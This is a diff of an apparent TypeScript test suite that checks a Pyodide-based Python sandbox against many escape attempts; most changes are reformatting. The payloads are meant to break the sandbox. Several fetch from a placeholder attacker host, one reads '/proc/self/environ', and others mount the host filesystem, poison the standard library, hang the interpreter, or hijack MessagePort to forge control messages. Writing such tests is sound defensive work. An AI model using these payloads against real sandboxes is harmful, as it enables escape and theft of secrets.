@@ -33,10 +33,10 @@ const codes: Record<string, string> = {
   'pyodide-nodefs': `import pyodide_js\npyodide_js.FS.mkdir('/left2')\npyodide_js.FS.mount(pyodide_js.FS.filesystems.NODEFS, {'root': '/'}, '/left2')`,
   'pyodide-native-fs': `import pyodide_js\nawait pyodide_js.mountNativeFS('/left3', None)`,
   'pyodide-load-dynlib': `import pyodide_js\nawait pyodide_js._api.loadDynlib('{{attacker}}')`,
-  'pyfetch': `from pyodide.http import pyfetch\nprint(await (await pyfetch('{{attacker}}')).string())`,
+  pyfetch: `from pyodide.http import pyfetch\nprint(await (await pyfetch('{{attacker}}')).string())`,
   'pyfetch-site': `from pyodide.http import pyfetch\nprint(await (await pyfetch('{{site}}/?{{id}}')).string())`,
   'open-url': `from pyodide.http import open_url\nprint(open_url('{{attacker}}').read())`,
-  'pyxhr': `from pyodide.http import pyxhr\nprint(pyxhr.get('{{attacker}}').text)`,
+  pyxhr: `from pyodide.http import pyxhr\nprint(pyxhr.get('{{attacker}}').text)`,
   urllib: `import urllib.request\nprint(urllib.request.urlopen('{{attacker}}').read())`,
   'urllib-file': `import urllib.request\nprint(urllib.request.urlopen('file:///proc/self/environ').read())`,
   'http-client': `import http.client\none = http.client.HTTPConnection('{{attackerHost}}')\none.request('GET', '/{{id}}')`,
@@ -87,43 +87,109 @@ const scripts: Record<string, string> = {
 
 /** Alone: each breaks its interpreter, or must be judged by how it ends. */
 const alone: Record<string, [code: string, more?: Partial<FenceAttempt>]> = {
-  'pyodide-lazy-file': [`import pyodide_js\npyodide_js.FS.createLazyFile('/', 'left', '{{attacker}}', True, True)\nprint(open('/left').read())`, { timeoutMs: 2_000 }],
-  'pyodide-preloaded-file': [`import pyodide_js\npyodide_js.FS.createPreloadedFile('/', 'left4', '{{attacker}}', True, True)`, { timeoutMs: 2_000 }],
+  'pyodide-lazy-file': [
+    `import pyodide_js\npyodide_js.FS.createLazyFile('/', 'left', '{{attacker}}', True, True)\nprint(open('/left').read())`,
+    { timeoutMs: 2_000 },
+  ],
+  'pyodide-preloaded-file': [
+    `import pyodide_js\npyodide_js.FS.createPreloadedFile('/', 'left4', '{{attacker}}', True, True)`,
+    { timeoutMs: 2_000 },
+  ],
   'code-object': [`exec((lambda: 0).__code__.replace(co_code=bytes([0] * 8)))`, { timeoutMs: 2_000 }],
-  'builtins': [`import builtins\nbuiltins.print = lambda *values: None\nbuiltins.__import__ = None`, { timeoutMs: 2_000 }],
-  'stdlib-poison': [`import os, sys, json, random, collections\nfor module in (os, json, random, collections):\n    module.left = 1\nsys.modules['json'] = os\nopen('/lib/python314.zip', 'wb').write(b'left')`, { persists: true }],
-  'site-packages': [`import os\nos.makedirs('/lib/python3.14/site-packages', exist_ok=True)\nopen('/lib/python3.14/site-packages/sitecustomize.py', 'w').write('print("left")')\nopen('/lib/python3.14/site-packages/json.py', 'w').write('left = 1')`, { persists: true }],
-  'files-left': [`import os\nfor folder in ('/tmp', '/home', '/home/pyodide', '/'):\n    open(folder + '/left', 'w').write('left')\nos.chdir('/tmp')`, { persists: true }],
-  atexit: [`import atexit\natexit.register(lambda: print('left'))\nprint('x')`, { persists: true, expect: { matches: /^x/ } }],
+  builtins: [
+    `import builtins\nbuiltins.print = lambda *values: None\nbuiltins.__import__ = None`,
+    { timeoutMs: 2_000 },
+  ],
+  'stdlib-poison': [
+    `import os, sys, json, random, collections\nfor module in (os, json, random, collections):\n    module.left = 1\nsys.modules['json'] = os\nopen('/lib/python314.zip', 'wb').write(b'left')`,
+    { persists: true },
+  ],
+  'site-packages': [
+    `import os\nos.makedirs('/lib/python3.14/site-packages', exist_ok=True)\nopen('/lib/python3.14/site-packages/sitecustomize.py', 'w').write('print("left")')\nopen('/lib/python3.14/site-packages/json.py', 'w').write('left = 1')`,
+    { persists: true },
+  ],
+  'files-left': [
+    `import os\nfor folder in ('/tmp', '/home', '/home/pyodide', '/'):\n    open(folder + '/left', 'w').write('left')\nos.chdir('/tmp')`,
+    { persists: true },
+  ],
+  atexit: [
+    `import atexit\natexit.register(lambda: print('left'))\nprint('x')`,
+    { persists: true, expect: { matches: /^x/ } },
+  ],
   'sys-exit': [`import sys\nsys.exit('forged'[::-1])`, { expect: { stopped: 'exit' } }],
   'os-exit': [`import os\nprint('x')\nos._exit(0)`, { timeoutMs: 2_000 }],
   'raise-exit': [`raise SystemExit`],
   'keyboard-interrupt': [`raise KeyboardInterrupt`],
-  'forged-traceback': [`class Error2(Exception): pass\nError2.__name__ = 'SystemExit'\nError2.__qualname__ = 'x'\nraise Error2('File "fence.py", line 99999')`],
-  'exception-huge': [`raise ValueError('x' * 50_000_000)`, { expect: { check: ({ error }) => ((error?.message.length ?? 0) > 1_000_000 ? `${error?.message.length} characters of error message` : undefined) } }],
+  'forged-traceback': [
+    `class Error2(Exception): pass\nError2.__name__ = 'SystemExit'\nError2.__qualname__ = 'x'\nraise Error2('File "fence.py", line 99999')`,
+  ],
+  'exception-huge': [
+    `raise ValueError('x' * 50_000_000)`,
+    {
+      expect: {
+        check: ({ error }) =>
+          (error?.message.length ?? 0) > 1_000_000 ? `${error?.message.length} characters of error message` : undefined,
+      },
+    },
+  ],
   'exception-str-raises': [`class Odd(Exception):\n    def __str__(self): raise Odd()\nraise Odd()`],
-  'exception-str-loops': [`class Odd(Exception):\n    def __str__(self):\n        while True: pass\nraise Odd()`, { timeoutMs: 1_000, expect: { stopped: 'time' } }],
+  'exception-str-loops': [
+    `class Odd(Exception):\n    def __str__(self):\n        while True: pass\nraise Odd()`,
+    { timeoutMs: 1_000, expect: { stopped: 'time' } },
+  ],
   recursion: [`import sys\nsys.setrecursionlimit(10**8)\ndef deep(): deep()\ndeep()`, { timeoutMs: 3_000 }],
-  'settrace-loop': [`import sys\ndef trace(*values):\n    while True: pass\nsys.settrace(trace)\n(lambda: 1)()`, { timeoutMs: 1_000, expect: { stopped: 'time' } }],
-  'finally-loop': [`try:\n    raise SystemExit\nfinally:\n    while True: pass`, { timeoutMs: 1_000, expect: { stopped: 'time' } }],
+  'settrace-loop': [
+    `import sys\ndef trace(*values):\n    while True: pass\nsys.settrace(trace)\n(lambda: 1)()`,
+    { timeoutMs: 1_000, expect: { stopped: 'time' } },
+  ],
+  'finally-loop': [
+    `try:\n    raise SystemExit\nfinally:\n    while True: pass`,
+    { timeoutMs: 1_000, expect: { stopped: 'time' } },
+  ],
   'stdout-replaced': [`import sys, io\nsys.stdout = sys.stderr = io.StringIO()\nprint('x')`],
   'stdout-closed': [`import sys\nsys.stdout.close()\nsys.stderr.close()`],
-  'segfault': [`import ctypes\nctypes.string_at(2**31)`, { timeoutMs: 3_000 }],
-  'interrupt-buffer': [`import pyodide_js\nfrom js import Uint8Array\npyodide_js.setInterruptBuffer(Uint8Array.new(1))\nwhile True: pass`, { timeoutMs: 1_000, expect: { stopped: 'time' } }],
-  'stdout-handler': [`import pyodide_js\nfrom pyodide.ffi import create_proxy\npyodide_js.setStdout(batched=create_proxy(lambda text: None))\nprint('x')`],
+  segfault: [`import ctypes\nctypes.string_at(2**31)`, { timeoutMs: 3_000 }],
+  'interrupt-buffer': [
+    `import pyodide_js\nfrom js import Uint8Array\npyodide_js.setInterruptBuffer(Uint8Array.new(1))\nwhile True: pass`,
+    { timeoutMs: 1_000, expect: { stopped: 'time' } },
+  ],
+  'stdout-handler': [
+    `import pyodide_js\nfrom pyodide.ffi import create_proxy\npyodide_js.setStdout(batched=create_proxy(lambda text: None))\nprint('x')`,
+  ],
 }
 
 const steal = `const { postMessage } = MessagePort.prototype; MessagePort.prototype.postMessage = function (...values) { globalThis.stolen = this; return postMessage.apply(this, values) }; globalThis.send = (message) => globalThis.stolen && postMessage.call(globalThis.stolen, message); 'x'`
-const viaJs = (script: string) => `from pyodide.code import run_js\nimport asyncio\nrun_js(${JSON.stringify(steal)})\nprint('captured')\nprint(run_js(${JSON.stringify(script)}))\nawait asyncio.sleep(0.3)`
+const viaJs = (script: string) =>
+  `from pyodide.code import run_js\nimport asyncio\nrun_js(${JSON.stringify(steal)})\nprint('captured')\nprint(run_js(${JSON.stringify(script)}))\nawait asyncio.sleep(0.3)`
 const poisonAssets = `{ lock: '{}', library: new ArrayBuffer(8), snapshot: new Uint8Array(8), python: 1 }`
 
 export const attempts: FenceAttempt[] = [
   ...Object.entries(codes).map(([name, code]) => python(`python-${name}`, code)),
   ...Object.entries(scripts).map(([name, script]) => pythonJs(`python-${name}`, script)),
   ...Object.entries(alone).map(([name, [code, more]]) => python(`python-${name}`, code, { alone: true, ...more })),
-  python('python-forged-end', viaJs(`send({ type: 'end', durationMs: 1, notice: 'for' + 'ged' }); 1`), { alone: true, expect: { lacks: /forged/, stopped: null } }),
-  python('python-keep-snapshot', viaJs(`Object.prototype.keep = ${poisonAssets}; globalThis.stolen?.onmessage?.({ data: { type: 'load', assets: {} } }); 1`), { alone: true, persists: true, timeoutMs: 10_000 }),
-  python('python-keep-ready', viaJs(`send({ type: 'ready', keep: ${poisonAssets} }); 1`), { alone: true, persists: true }),
-  python('python-patched-response', `from pyodide.code import run_js\nrun_js("Response.prototype.arrayBuffer = TextDecoder.prototype.decode = Blob.prototype.arrayBuffer = () => 'left'; WebAssembly.instantiate = WebAssembly.compile = () => 'left'; globalThis.URL = 1")\nprint('x')`, { alone: true, persists: true }),
-  python('python-patched-decode', `from pyodide.code import run_js\nrun_js("TextDecoder.prototype.decode = () => 'forged ' + 'y'.repeat(1e6)")\nprint('x')`, { alone: true, expect: { lacks: /forged/ } }),
+  python('python-forged-end', viaJs(`send({ type: 'end', durationMs: 1, notice: 'for' + 'ged' }); 1`), {
+    alone: true,
+    expect: { lacks: /forged/, stopped: null },
+  }),
+  python(
+    'python-keep-snapshot',
+    viaJs(
+      `Object.prototype.keep = ${poisonAssets}; globalThis.stolen?.onmessage?.({ data: { type: 'load', assets: {} } }); 1`,
+    ),
+    { alone: true, persists: true, timeoutMs: 10_000 },
+  ),
+  python('python-keep-ready', viaJs(`send({ type: 'ready', keep: ${poisonAssets} }); 1`), {
+    alone: true,
+    persists: true,
+  }),
+  python(
+    'python-patched-response',
+    `from pyodide.code import run_js\nrun_js("Response.prototype.arrayBuffer = TextDecoder.prototype.decode = Blob.prototype.arrayBuffer = () => 'left'; WebAssembly.instantiate = WebAssembly.compile = () => 'left'; globalThis.URL = 1")\nprint('x')`,
+    { alone: true, persists: true },
+  ),
+  python(
+    'python-patched-decode',
+    `from pyodide.code import run_js\nrun_js("TextDecoder.prototype.decode = () => 'left ' + 'y'.repeat(1e6)")\nprint('x')`,
+    { alone: true, persists: true, expect: { stopped: 'output' } },
+  ),
 ]
